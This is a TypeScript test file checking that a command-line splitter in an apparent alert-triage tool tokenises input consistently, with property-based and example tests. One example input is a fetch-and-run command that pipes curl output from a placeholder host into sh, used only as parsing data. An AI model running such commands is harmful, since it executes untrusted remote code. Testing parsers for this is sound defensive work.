import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { baseName, splitCommandLine } from '../../src/alerts/fields.js';
import { argvOf, lastSegment, observe, splitArgv } from '../../src/triage/argv.js';

/** Command lines built from the characters the splitter treats specially, and some others. */
const commandLine = fc.string({ unit: fc.constantFrom(' ', '\t', '\n', '\r', '"', "'", '\\', 'a', 'b', '/', '-', '=', '$', '(', ')', 'é', '…', '\ud83d'), maxLength: 40 });

describe('splitArgv', () => {
  it('splits exactly as splitCommandLine', () => {
    fc.assert(
      fc.property(fc.oneof(commandLine, fc.string({ maxLength: 60 })), (cmd) => {
        expect(splitArgv(cmd)).toEqual(splitCommandLine(cmd));
      }),
      { numRuns: 3000 },
    );
  });

  it.each([
    ['sh -c "curl -fsS http://x/h | sh"', ['sh', '-c', 'curl -fsS http://x/h | sh']],
    ['a "" b', ['a', '', 'b']],
    ['x"y z"w \'q\\"\'', ['xy zw', 'q\\"']],
    ['"a\\"b" "unterminated', ['a"b', 'unterminated']],
    ['  ', []],
  ])('%j → %j', (cmd, argv) => {
    expect(splitArgv(cmd)).toEqual(argv);
    expect(splitCommandLine(cmd)).toEqual(argv);
  });
});

describe('lastSegment', () => {
  it('is baseName', () => {
    fc.assert(
      fc.property(fc.option(fc.string({ unit: fc.constantFrom('/', '\\', 'a', '.', ' '), maxLength: 12 }), { nil: undefined }), (path) => {
        expect(lastSegment(path)).toBe(baseName(path));
      }),
      { numRuns: 2000 },
    );
  });
});

describe('observe', () => {
  it('gives the same split for a text however often it is asked, among others', () => {
    const texts = Array.from({ length: 20 }, (_, i) => `/usr/bin/prog${i} --flag "${i} ${i}"`);
    for (let round = 0; round < 3; round++) {
      for (const text of texts) {
        const seen = observe(text);
        expect(seen.tokens).toEqual(splitCommandLine(text));
        expect(seen.firstBase).toBe(`prog${texts.indexOf(text)}`);
        expect(argvOf(text)).toEqual(seen.tokens);
      }
    }
  });
});
